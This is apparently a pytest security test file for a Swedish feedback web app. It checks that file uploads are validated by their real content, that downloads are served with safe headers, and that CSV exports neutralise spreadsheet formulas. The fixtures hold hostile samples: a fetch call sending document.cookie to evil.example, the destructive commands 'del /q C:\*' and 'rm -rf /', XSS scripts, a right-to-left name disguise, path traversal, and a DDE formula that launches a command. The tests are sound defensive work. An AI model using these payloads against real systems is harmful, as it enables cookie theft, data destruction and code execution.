"""Attachments are accepted by what they really are and served under a name the app makes;
spreadsheet formulas never reach a CSV the app writes."""

from __future__ import annotations

import csv
import io

import pytest
from bs4 import BeautifulSoup

from servicedialog import uploads
from servicedialog.exports import csv_text, spreadsheet_safe
from servicedialog.roles import Role
from tests.conftest import csrf_token, run
from tests.security.conftest import png_bytes


def _pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _jpeg() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, "JPEG")
    return buffer.getvalue()


HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
REFUSED = [
    ("run.bat", b"@echo off\r\ndel /q C:\\*\r\n"),
    ("faktura.pdf.js", b"fetch('https://evil.example/'+document.cookie)"),
    ("page.html", HTML),
    ("page.txt", HTML),  # markup named as text
    ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("polyglot.pdf", b"%PDF-1.7\n" + HTML),  # a PDF header, then HTML
    ("bild.png", b"%PDF-1.4 not a picture"),  # a name that does not match the content
    ("fdp.exe".join(["faktura\u202e", ""]), _pdf()),  # right-to-left override: "faktura‮fdp.exe"
    ("script.txt", b"#!/bin/sh\nrm -rf /\n"),
    ("brev.pdf", b"%PDF-1.4\n%%EOF\n"),  # the markers without a document
    ("noll.txt", b"text\x00med nolltecken"),
    ("tom.txt", b""),
]
ACCEPTED = [
    ("brev.pdf", _pdf(), "application/pdf"),
    ("bild.PNG", png_bytes(), "image/png"),
    ("foto.jpeg", _jpeg(), "image/jpeg"),
    ("anteckning.txt", "Hej! Åäö, tack.".encode(), "text/plain"),
]


def _submit(client, org, name, data):
    return client.post(
        f"/feedback/{org.slug}/",
        data={"csrftoken": csrf_token(client), "kind": "complaint", "text": "Se bilagan"},
        files={"attachments": (name, data, "application/octet-stream")},
    )


@pytest.mark.parametrize("name,data", REFUSED, ids=[n for n, _ in REFUSED])
def test_files_that_are_not_what_we_accept_are_refused_with_the_form_kept(
    client, org, name, data, settings
):
    response = _submit(client, org, name, data)
    assert response.status_code == 400
    page = BeautifulSoup(response.text, "html.parser")
    assert page.select_one("#error-attachments")
    assert "Se bilagan" in page.select_one("textarea[name=text]").text
    stored = settings.var_dir / "attachments"
    assert not stored.exists() or not any(stored.iterdir())


@pytest.mark.parametrize("name,data,kind", ACCEPTED, ids=[n for n, _d, _k in ACCEPTED])
def test_real_documents_and_pictures_are_stored_and_served_under_our_name(
    client, org, member, name, data, kind
):
    from complaints.models import Attachment, Feedback

    assert _submit(client, org, name, data).status_code == 303
    item = run(client, Attachment.first)
    record = run(client, Feedback.get, id=item.feedback_id)
    assert item.content_type == kind and item.storage_name.endswith(uploads.ALLOWED[kind][0])
    member(Role.HANDLER)
    response = client.get(f"/feedback/manage/attachments/{item.id}")
    assert response.status_code == 200 and response.content == data
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert f"{record.number}-{item.id}{uploads.ALLOWED[kind][0]}" in disposition
    assert response.headers["content-type"].startswith(kind)
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["cache-control"] == "no-store"


def test_the_form_says_which_files_are_accepted(client, org):
    page = BeautifulSoup(client.get(f"/feedback/{org.slug}/").text, "html.parser")
    hint = page.select_one("#hint-attachments").text
    for extension in (".pdf", ".jpg", ".png", ".heic", ".webp", ".txt"):
        assert extension in hint
    assert page.select_one("#field-attachments")["accept"] == uploads.ACCEPT


def test_uploaded_names_lose_control_and_direction_characters():
    assert uploads.clean_name("faktura\u202efdp.exe") == "fakturafdp.exe"
    assert uploads.clean_name("../../etc/passwd") == "passwd"
    assert uploads.clean_name("a\x00b\u200b.txt") == "ab.txt"


FORMULAS = ['=HYPERLINK("https://evil.example")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_made_text(value):
    assert spreadsheet_safe(value) == "'" + value
    row = next(csv.reader(io.StringIO(csv_text(["h"], [[value, -5, 3.5]])).readlines()[1:]))
    assert row[0] == "'" + value and row[1:] == ["-5", "3.5"]


def test_feedback_text_and_summaries_are_neutralised_in_the_export(client, org, member):
    from complaints import services
    from complaints.services import NewFeedback
    from complaints.states import Kind

    handler = member(Role.HANDLER)
    plain = run(client, services.register, org, NewFeedback(kind=Kind.COMPLAINT, text=FORMULAS[0]))
    secret = run(client, services.register, org, NewFeedback(kind=Kind.PRAISE, text="x"))
    secret_record = run(client, secret.record)
    run(client, services.set_secrecy, secret_record, handler, True, "=cmd|' /C calc'!A0")
    text = client.get("/feedback/manage/export.csv?status=all").text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'" + FORMULAS[0] in cells and plain.number in cells


def test_service_names_are_neutralised_in_the_open_data(client, org):
    from commitments.services import import_catalogue

    catalogue = {
        "services": [
            {
                "code": "X",
                "name": {"sv": "=1+1", "en": "@x"},
                "commitments": [
                    {
                        "key": "k",
                        "promise": {"sv": "+lova", "en": "-promise"},
                        "unit": "working_days",
                        "threshold": 2,
                        "target_share": 0.9,
                        "period": "month",
                    }
                ],
            }
        ]
    }
    run(client, import_catalogue, org, catalogue)
    text = client.get(f"/commitments/{org.slug}/open-data.csv").text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells


def test_a_large_export_is_streamed_in_pieces_and_every_piece_is_safe():
    from servicedialog.exports import CHUNK_ROWS, csv_chunks

    rows = [[f'=HYPERLINK("http://x/{i}")', i, -i] for i in range(CHUNK_ROWS * 2 + 7)]
    pieces = list(csv_chunks(["text", "n", "negative"], rows))
    assert len(pieces) == 3  # two full pieces and the rest
    lines = "".join(pieces).splitlines()
    assert len(lines) == len(rows) + 1
    assert all(line.startswith("\"'=HYPERLINK") for line in lines[1:])
    assert lines[-1].endswith(f",{len(rows) - 1},-{len(rows) - 1}")  # numbers stay numbers
